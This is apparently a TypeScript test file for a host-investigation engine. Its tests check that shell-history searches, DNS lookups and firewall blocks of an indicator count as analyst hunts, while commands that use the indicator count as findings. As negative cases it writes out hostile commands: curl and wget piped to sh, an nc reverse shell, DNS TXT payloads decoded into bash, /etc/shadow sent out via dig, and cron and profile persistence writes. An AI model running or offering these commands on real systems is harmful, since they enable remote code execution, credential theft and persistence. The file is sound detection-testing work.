// An indicator that a host's shell history holds only in searches, lookups and blocks of it was hunted for there,
// not used: ioc-match keeps it at info. Any use of it (a fetch, a connection, a write, a socket) stays a finding.
import { test } from "tap";
import { extractEntities, getDetection, routeQuery, runInvestigation } from "../../shared/engine/index.js";
import type { DetectionHit, HostData, Row } from "../../shared/engine/index.js";
import { onlyHuntsFor } from "../../shared/engine/detections/indicator-hunts.js";
import { coverage, host, proc, sock } from "./helpers.js";

const IP = "203.0.113.77";
const DOMAIN = "cdn-update.example";

test("searches, lookups and firewall blocks of an indicator are hunts", async (t) => {
  for (const cmd of [
    `grep -r ${IP} /var/log/nginx/`,
    `zgrep -h "${IP}" /var/log/auth.log.*.gz | sort | uniq -c`,
    `sudo journalctl -u ssh --since yesterday | grep ${IP}`,
    `rg -n '${DOMAIN}' /etc /opt`,
    `dig +short ${DOMAIN}`,
    `whois ${IP} | grep -i orgname`,
    `ss -tnp dst ${IP}`,
    `sudo tcpdump -ni eth0 host ${IP} -c 20`,
    `iptables -I OUTPUT -d ${IP} -j DROP`,
    `ufw deny out to ${IP}`,
    `fail2ban-client set sshd banip ${IP}`,
    `ipset add blocklist ${IP}`,
    `ip route add blackhole ${IP}`,
    `find / -xdev -name '*${DOMAIN}*' 2>/dev/null`,
  ]) t.ok(onlyHuntsFor(cmd, cmd.includes(IP) ? IP : DOMAIN), cmd);
});

test("a command that uses the indicator anywhere is not a hunt", async (t) => {
  for (const cmd of [
    `curl -fsSL http://${IP}/x.sh | sh`,
    `grep -q ok /tmp/s || curl http://${IP}/a -o /tmp/a`,
    `nc ${IP} 4444 -e /bin/sh | grep x`,
    `echo "${IP} ${DOMAIN}" >> /etc/hosts`,
    `iptables -I INPUT -s ${IP} -j ACCEPT`,
    `ufw allow from ${IP}`,
    `ipset add allowlist ${IP}`,
    `find / -name '*${DOMAIN}*' -exec sh {} \\;`,
    `grep root /etc/passwd $(curl -s http://${IP}/k)`,
    `sh -c 'grep x /var/log/syslog; wget ${IP}/p'`,
    `ping -c1 ${IP}`,
    `ssh root@${IP}`,
  ]) t.notOk(onlyHuntsFor(cmd, cmd.includes(IP) ? IP : DOMAIN), cmd);
  t.notOk(onlyHuntsFor("grep foo /var/log/syslog", IP), "a command that does not name it");
});

function iocHits(h: HostData, question: string): DetectionHit[] {
  const d = getDetection("ioc-match");
  if (!d) throw new Error("no ioc-match");
  return d.evaluate(h, { entities: extractEntities(question) });
}

const history = (command: string): Row => ({ uid: "1000", command, history_file: "/home/ana/.bash_history" });

test("ioc-match: an analyst's hunt is info, a use beside it is medium", async (t) => {
  const question = `threat intel flagged ${IP}, does it show up anywhere?`;
  const hunted = host({ shell_history: [history(`zgrep ${IP} /var/log/auth.log*`), history(`sudo iptables -I OUTPUT -d ${IP} -j DROP`)] });
  const hits = iocHits(hunted, question);
  t.equal(hits.length, 1);
  t.equal(hits[0]?.severity, "info");
  t.match(hits[0]?.summary ?? "", /hunted for it/);

  const used = host({ shell_history: [history(`zgrep ${IP} /var/log/auth.log*`), history(`wget -q http://${IP}/b -O /tmp/b`)] });
  t.equal(iocHits(used, question)[0]?.severity, "medium", "a fetch in history beside the search");

  const talking = host({
    shell_history: [history(`grep ${IP} /var/log/syslog`)],
    processes: [proc(700, "kworkerd", "/tmp/.k/kworkerd")],
    process_open_sockets: [sock(700, IP, 443)],
  });
  t.equal(iocHits(talking, question)[0]?.severity, "medium", "a socket to it beside the search");
});

test("the whole run: a host that only hunted for the indicator is not alerting; the one that talked to it is", async (t) => {
  const question = `any traffic to or from ${IP}?`;
  const analyst = host({ shell_history: [history(`grep -c ${IP} /var/log/nginx/access.log`), history(`whois ${IP}`)] }, {}, "agent-a", "ops-1");
  const victim = host({ processes: [proc(42, "sshd-helper", "/var/tmp/sshd-helper")], process_open_sockets: [sock(42, IP, 8443)] }, {}, "agent-v", "web-2");
  const report = runInvestigation(routeQuery(question, "standard"), [analyst, victim], coverage(2), "standard");
  const alerting = report.findings.filter((f) => f.severity !== "info");
  t.ok(alerting.some((f) => f.agent_id === "agent-v"), "the host that talked to it");
  t.notOk(alerting.some((f) => f.agent_id === "agent-a"), "the analyst's host");
  t.ok(report.findings.some((f) => f.agent_id === "agent-a" && f.detection_id === "ioc-match" && f.severity === "info"), "kept as an observation");
});

test("the review's borrowed forms: a lookup feeding a shell, a NAT rule with 'drop' in its comment, a route via the address, a search that runs a program", async (t) => {
  for (const cmd of [
    `dig +short TXT ${DOMAIN} | base64 -d | bash`,
    `host -t txt ${DOMAIN} | cut -d'"' -f2 | sh`,
    `H=$(dig +short ${DOMAIN}); curl http://$H/p | sh`,
    `iptables -t nat -A OUTPUT -p tcp --dport 443 -j DNAT --to-destination ${IP}:443 -m comment --comment drop`,
    `nft add rule ip nat output ip daddr 1.1.1.1 dnat to ${IP} comment "deny"`,
    `ip route add 0.0.0.0/1 via ${IP}`,
    `rg --pre /tmp/.x/helper ${IP} /var/log`,
    `tcpdump -w /tmp/c.pcap -G 60 -z /tmp/x.sh host ${IP}`,
    `grep ${IP} /var/log/syslog > /etc/cron.d/x`,
    `grep -c ${IP} /var/log/syslog | tee /etc/profile.d/x.sh`,
    `whois ${IP} | awk '{system($0)}'`,
  ]) t.notOk(onlyHuntsFor(cmd, cmd.includes(IP) ? IP : DOMAIN), cmd);
  t.notOk(onlyHuntsFor(`dig +short TXT ${DOMAIN} > /tmp/p`, DOMAIN), "an answer saved to a file (run by a later line that names nothing)");
  for (const cmd of [
    `dig @${IP} TXT cmd.x`,
    `dig -f /etc/shadow @${IP}`,
    `nslookup - ${IP}`,
    `whois -h ${IP} -p 443 hello`,
    `host x.example ${IP}`,
    `dig +short TXT ${DOMAIN} | tr -d '"' >> .bashrc`,
    `dig +short TXT ${DOMAIN} | sort -o /etc/cron.d/job`,
    `dig +short TXT ${DOMAIN} | awk '{print > "/etc/cron.d/job"}'`,
    `find / -maxdepth 0 -fprintf /etc/cron.d/job 'curl ${IP}'`,
    `grep root <(curl -s http://${IP}/p)`,
    `iptables -D OUTPUT -d ${IP} -j DROP`,
    `iptables -A OUTPUT ! -d ${IP} -j DROP`,
    `nft add rule inet filter output ip daddr != ${IP} drop`,
    `firewall-cmd --remove-rich-rule='rule family=ipv4 destination address=${IP} drop'`,
    `ack --pager=/tmp/.x ${IP}`,
    `PAGER=/tmp/.x journalctl -g ${IP}`,
  ]) t.notOk(onlyHuntsFor(cmd, cmd.includes(IP) ? IP : DOMAIN), cmd);
  t.ok(onlyHuntsFor(`iptables -I INPUT -s ${IP} -m comment --comment allow -j DROP`, IP), "a block whose comment says allow");
  t.ok(onlyHuntsFor(`grep -h ${IP} /var/log/auth.log 2>/dev/null | sort | uniq -c`, IP), "errors thrown away, counted on the terminal");
  t.ok(onlyHuntsFor(`nft add rule inet filter output ip daddr ${IP} drop`, IP), "nft's own drop verdict");
});
